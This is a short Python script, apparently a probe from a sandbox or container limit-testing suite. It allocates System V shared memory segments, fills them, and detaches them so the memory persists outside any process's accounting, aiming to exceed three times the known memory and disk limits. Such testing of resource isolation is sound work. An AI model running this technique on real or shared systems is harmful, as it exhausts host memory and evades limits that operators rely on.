"""Keeps memory in System V segments, which no process has mapped any more."""

import ctypes
import time

from attack import KNOWN, LIBC

LIBC.shmat.restype = ctypes.c_void_p
LIBC.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
LIBC.shmdt.argtypes = (ctypes.c_void_p,)
size, total = 4 << 20, 0
while total < 3 * (KNOWN["memory"] + KNOWN["disk"]):
    segment = LIBC.shmget(0, ctypes.c_size_t(size), 0o1600)
    if segment < 0:
        print("held segments", flush=True)
        break
    address = LIBC.shmat(segment, None, 0)
    ctypes.memset(address, 1, size)
    LIBC.shmdt(address)
    total += size
else:
    print("ESCAPED memory in segments", total, flush=True)
    time.sleep(1000)
